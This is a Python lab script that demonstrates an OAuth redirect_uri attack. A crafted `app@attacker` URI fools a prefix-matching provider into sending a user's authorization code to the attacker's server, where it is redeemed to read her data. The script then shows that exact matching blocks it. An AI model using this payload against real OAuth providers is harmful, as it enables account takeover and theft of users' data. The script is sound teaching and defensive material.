"""An open redirect_uri: a provider that matches a prefix sends Ada's code to the attacker.

The shelf app registered `<app>/callback`. A provider that only checks that the requested
redirect URI *starts with* the app's origin accepts `<app>@127.0.0.1:<attacker port>/steal`:
in a URL, everything before `@` is user info, so the host is the attacker's. Mallory builds
the authorization request herself (with her own PKCE pair), Ada approves an app she trusts,
and the code goes to Mallory, who redeems it. Exact matching refuses the request outright.
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx
from authlib.oauth2.rfc7636 import create_s256_code_challenge

from labkit.serve import serve_wsgi_in_thread
from snippets.security.oauth_app.browser import Browser, Callback, params, show
from snippets.security.oauth_app.models import (
    Client,
    RedirectCheck,
    Store,
    redirect_allowed,
    redirect_allowed_prefix_vulnerable,
)
from snippets.security.oauth_app.provider import create_provider

DEPENDS = ("oauth_app/",)


@dataclass
class Outcome:
    """What the provider answered Ada, and what Mallory read with the stolen code."""

    provider_status: int
    stolen_books: list[str] | None


def attack(check: RedirectCheck) -> Outcome:
    """Mallory's crafted link, opened by Ada, against a provider using `check`."""
    store = Store()
    password = store.add_user("ada", books=["Kindred", "Dune"])
    app, attacker = Callback(), Callback()
    with serve_wsgi_in_thread(create_provider(store)) as provider, \
            app.serving("app") as app_url, attacker.serving("attacker") as attacker_url:
        store.add_client(Client(client_id="shelf-app", scope="shelf:read",
                                redirect_uris=[f"{app_url}/callback"], redirect_check=check))
        # --8<-- [start:craft]
        evil = f"{app_url}@{urlsplit(attacker_url).netloc}/steal"  # [mark:evil]
        print("redirect_uri:", show(evil), "-> host", urlsplit(evil).hostname,
              "port is the attacker's:", urlsplit(evil).port == urlsplit(attacker_url).port)
        verifier = secrets.token_urlsafe(32)  # Mallory's own PKCE pair
        link = httpx.URL(f"{provider}/authorize", params={
            "response_type": "code", "client_id": "shelf-app", "redirect_uri": evil,
            "scope": "shelf:read", "state": "x",
            "code_challenge": create_s256_code_challenge(verifier),
            "code_challenge_method": "S256"})
        # --8<-- [end:craft]
        # --8<-- [start:click]
        ada = Browser()
        ada.login(provider, "ada", password)
        answer = ada.consent(str(link))  # the page says "Allow shelf-app"; Ada allows
        if answer.status_code != 302:
            refusal = answer.json()
            print(f"provider -> {answer.status_code} {refusal['error']}:",
                  show(refusal["error_description"]))
            ada.close()
            return Outcome(answer.status_code, None)
        ada.get(answer.headers["location"])
        code = params(attacker.received[0])["code"]
        print("provider -> 302; the attacker's server received",
              show(attacker.received[0], [code]))
        token = httpx.post(f"{provider}/token", data={
            "grant_type": "authorization_code", "code": code, "client_id": "shelf-app",
            "redirect_uri": evil, "code_verifier": verifier}).json()
        bearer = {"Authorization": f"Bearer {token['access_token']}"}
        books = httpx.get(f"{provider}/api/shelf", headers=bearer).json()["books"]
        print("Mallory redeems it and reads Ada's shelf:", books)
        # --8<-- [end:click]
        ada.close()
    return Outcome(answer.status_code, books)


def main() -> None:
    """The same crafted link against a prefix-matching provider, then an exact-matching one."""
    # --8<-- [start:both]
    print("Provider matches a prefix:")
    attack(redirect_allowed_prefix_vulnerable)
    print()
    print("Provider matches exactly:")
    attack(redirect_allowed)
    # --8<-- [end:both]


if __name__ == "__main__":
    main()
